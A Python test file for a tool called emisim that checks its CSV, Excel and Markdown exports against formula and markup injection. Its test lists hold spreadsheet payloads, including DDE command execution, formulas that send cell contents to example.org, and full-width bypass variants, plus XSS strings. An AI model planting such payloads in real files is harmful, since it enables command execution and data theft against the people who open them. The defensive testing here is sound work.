"""No text of anybody's becomes a formula in what emisim writes, and no number becomes a text: Excel, CSV, Markdown."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

import tiny
from emisim.io.csv_file import csv_bytes, read_csv
from emisim.io.ff10 import ff10_files
from emisim.io.iamc import iamc_files
from emisim.io.run_folder import clauses_csv, ledger_csv, projects_csv, run, targets_csv
from emisim.io.template import template_bytes
from emisim.io.workbook import workbook_bytes
from emisim.io.xlsx import Column, table, workbook
from emisim.report.import_tables import _quoted
from emisim.report.markdown import inline, markdown
from emisim.text import guarded, unguarded

INJECTIONS = [
    "=1+1", "=HYPERLINK(\"http://example.org/?\"&A1,\"look\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=WEBSERVICE(\"http://example.org\")", " =1+1", "\u3000=1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+A1", "＠SUM(A1)", "−1+A1",
    "'=1+1", "''=1+1", "=", "+A1", "-A1", "@A1", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=\"a\"&\"b\"", "-5;=1+1",
]  # fmt: skip
CONTROLLED = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t@A1",
    "x\n=1",
]  # no file that emisim reads may hold these, but cells of workbooks do
FIGURES = [
    "-5",
    "+5",
    "-5.2",
    "-5.2 %",
    "+3,5",
    "-1.2e-5",
    "-",
    "−"[:0],
    "5 t/yr",
    "2025",
    "12:30",
    "A1",
    "农业",
    "a=b",
    "a@b",
    "x-y",
]


def runs(text: str) -> bool:
    """Whether a spreadsheet would take a cell of this text for a formula; written down here a second time, letter by letter."""
    plain = text.lstrip(" \u3000\u00a0\ufeff")
    if text[:1] in ("\t", "\r", "\n"):
        return True
    if plain[:1] in ("=", "@", "＝", "＋", "－", "＠", "−"):
        return True
    rest = plain[1:].replace("%", "").strip()
    return plain[:1] in ("+", "-") and rest != "" and not rest.replace(",", "").replace(".", "").replace("e-", "").isdigit()


@pytest.mark.parametrize("text", [*INJECTIONS, *CONTROLLED])
def test_what_would_run_is_guarded_and_comes_back(text, tmp_path):
    made = guarded(text)
    assert runs(text) is False or made == f"'{text}"
    assert not runs(made)
    assert unguarded(made) == text
    (record,) = list(csv.reader(io.StringIO(csv_bytes(["a"], [[text]]).decode(), newline="")))[1:]
    assert record == [made.replace("\r", "\n")]


@pytest.mark.parametrize("text", FIGURES)
def test_what_runs_nothing_stays_as_it_is(text):
    assert guarded(text) == unguarded(text) == text


def test_numbers_of_tables_stay_numbers():
    written = csv_bytes(["a", "b"], [[-5.25, -3], [0.0, "-5.2 %"]]).decode()
    assert written == "a,b\n-5.25,-3\n0.0,-5.2 %\n"


@pytest.mark.parametrize("text", [t for t in INJECTIONS if t == t.strip()])
def test_a_table_that_is_read_back_is_what_it_was(text, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes(["name", "index"], [[text, -1.5], ["农业", 2]]))
    faults = []
    row, _ = read_csv(path, "a.csv", {"name": True, "index": True}, frozenset(), faults).rows()
    assert faults == [] and (row["name"], row["index"]) == (text, "-1.5")


# ---- a whole project whose every free text would be a formula

PLACES = [
    ("scenario.yaml", "A tiny county in 2025"), ("plan.yaml", "title"), ("inventory/sources.csv", "Coal boilers"), ("inventory/sources.csv", "燃煤锅炉"),
    ("inventory/sources.csv", "survey"), ("inventory/factors.csv", "handbook"), ("inventory/growth.csv", "yearbook"),
]  # fmt: skip


def spoiled(folder: Path, text: str) -> Path:
    """The tiny project with a text for its titles, names and sources, in YAML and in CSV."""
    tiny.copy(folder)
    for path in (folder / "scenario.yaml", folder / "plan.yaml"):
        lines = path.read_text(encoding="utf-8").split("\n")
        quoted = json.dumps(text, ensure_ascii=False)
        changed = []
        for line in lines:
            head, sign, _ = line.partition("title: ")
            changed.append(f"{head}title: {{zh: {quoted}, en: {quoted}}}" if sign and "{" not in head else line)
        path.write_text("\n".join(changed), encoding="utf-8")
    for name, columns in (
        ("sources", ("name_zh", "name_en", "source", "note")),
        ("factors", ("source", "note")),
        ("growth", ("source", "note")),
    ):
        path = folder / "inventory" / f"{name}.csv"
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        stream = io.StringIO(newline="")
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(row | dict.fromkeys(columns, text) for row in rows)
        path.write_text(stream.getvalue(), encoding="utf-8", newline="")
    return folder / "scenario.yaml"


def cells_of(data: bytes):
    for data_only in (False, True):
        for sheet in openpyxl.load_workbook(io.BytesIO(data), data_only=data_only):
            for row in sheet.iter_rows():
                yield from row


def no_formula(data: bytes) -> int:
    """Cells of a workbook, none of which is a formula or a link."""
    count = 0
    for cell in cells_of(data):
        count += 1
        assert cell.data_type != "f", cell.coordinate
        assert cell.hyperlink is None or cell.hyperlink.target is None, cell.coordinate  # within the workbook, as emisim's own
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert not book._external_links
    assert not any("!" not in name.attr_text for name in book.defined_names.values())
    return count


def csv_files(result, folder: Path) -> dict[str, bytes]:
    made = {
        "ledger": ledger_csv(result),
        "targets": targets_csv(result),
        "clauses": clauses_csv(result),
        "projects": projects_csv(result),
    }
    made |= {name: data for name, data in iamc_files(result).items() if name.endswith(".csv")}
    return made | {name: data for name, data in ff10_files(result, allow=["all"]).items()}


@pytest.mark.parametrize("text", [t for t in INJECTIONS if t == t.strip()])
def test_every_export_of_a_hostile_project(text, tmp_path, full, measured):
    if not full and text != "=1+1":
        pytest.skip("with --full")
    result = run(spoiled(tmp_path, text))
    seen = 0
    for name, data in csv_files(result, tmp_path).items():
        lines = [line for line in data.decode().splitlines(keepends=True) if not line.startswith("#")]
        for record in csv.reader(io.StringIO("".join(lines), newline="")):
            assert not [cell for cell in record if runs(cell)], name
            seen += sum(cell == f"'{text}" for cell in record)
    assert seen, "the text must have come this far"
    books = [workbook_bytes(result, language) for language in ("en", "zh")]
    books += [data for name, data in iamc_files(result).items() if name.endswith(".xlsx")]
    cells = sum(map(no_formula, books))
    assert any(cell.value == text for data in books for cell in cells_of(data)), "the text itself, not a guarded one"
    measured("formulas", texts=len(INJECTIONS) + len(CONTROLLED), cells=cells, formulas=0)


@pytest.mark.parametrize("text", [*INJECTIONS, *CONTROLLED])
def test_a_cell_of_a_workbook_is_text(text):
    data = workbook((table("s", [Column("a"), Column("b", "number")], [(text, -5.2)]),), text)
    no_formula(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["s"]
    assert (sheet["A2"].data_type, sheet["B2"].data_type, sheet["B2"].value) == ("s", "n", -5.2)


def formulas_of(data: bytes) -> dict[tuple[str, str], str]:
    """(sheet, cell) → formula."""
    return {
        (sheet.title, cell.coordinate): getattr(cell.value, "text", cell.value)
        for sheet in openpyxl.load_workbook(io.BytesIO(data))
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def test_the_template_has_no_formulas_but_those_of_its_lists():
    data = template_bytes("=1+1", 2020)
    own = formulas_of(template_bytes("", 2020))
    assert formulas_of(data) == own
    assert all(text.startswith("=IFERROR(INDEX(") for text in own.values())
    assert not any(sign in text for text in own.values() for sign in ("http", "|", "["))
    assert all(cell.hyperlink is None or cell.hyperlink.target is None for cell in cells_of(data))
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for rule in sheet.data_validations.dataValidation:
            assert not any(sign in str(rule.formula1) for sign in ("http", "|", "[", "1+1"))


@pytest.mark.parametrize("text", INJECTIONS)
def test_the_account_of_an_import(text):
    (record,) = csv.reader(io.StringIO(_quoted(text), newline=""))
    assert record == [guarded(text)]


def test_an_import_of_hostile_names_is_guarded_in_its_files_and_read_back(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    rows = [f'"{t.replace(chr(34), chr(34) * 2)}",锅炉,{k + 1},10' for k, t in enumerate(INJECTIONS) if t == t.strip()]
    Path("stock.csv").write_text("企业名称,行业,活动水平（吨）,NOx（吨）\n" + "\n".join(rows) + "\n", encoding="utf-8")
    Path("m.yaml").write_text(
        "mapping: m\nyear: 2020\ngrade: C\nsource: {zh: '=1+1', en: '=1+1'}\nregion: {value: '410399'}\nname_zh: 企业名称\nid: [企业名称]\n"
        "code: 行业\ncodes: {map: {锅炉: combustion}}\nactivity: {column: 活动水平（吨）, unit: t/yr}\npollutants: {NOx: {emission: {column: NOx（吨）, unit: t/yr}}}\n",
        encoding="utf-8",
    )
    outcome = tiny.call(monkeypatch, capsys, "import", "stock.csv", "--mapping", "m.yaml", "--to", "inv")
    assert outcome.code == 0, outcome.err
    for path in Path("inv").rglob("*.csv"):
        for record in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            assert not [cell for cell in record if runs(cell)], path
    from emisim.io.inventory_folder import read_inventory

    names = set(read_inventory(Path("inv"), 2020, (2020, 2020)).text["name_zh"].tolist())
    assert "=1+1" in names and "@A1" in names


# ---- Markdown

MARKUP = [
    "<script>alert(1)</script>",
    "![x](http://example.org/x.png)",
    "[x](javascript:alert(1))",
    "a | b | c",
    "a\n# b",
    "<img src=x onerror=alert(1)>",
    "</td><b>",
    "\\<script>alert(1)</script>",
    "a \\| b",
]


@pytest.mark.parametrize("text", MARKUP)
def test_no_markup_of_others_in_markdown(text, tmp_path):
    shown = markdown(run(spoiled(tmp_path, text)), "en")
    for piece in ("<script", "<img", "</td", "](http", "](javascript", "\n# b"):
        assert piece not in shown, piece
    columns = {line.replace("\\|", "").count("|") for line in shown.split("\n## ")[1].split("\n") if line.startswith("|")}
    assert len(columns) == 1


def test_plain_text_stays_plain():
    assert inline("a < 5 %, x <= y, [1] (see), <br>") == "a < 5 %, x <= y, [1] (see), <br>"
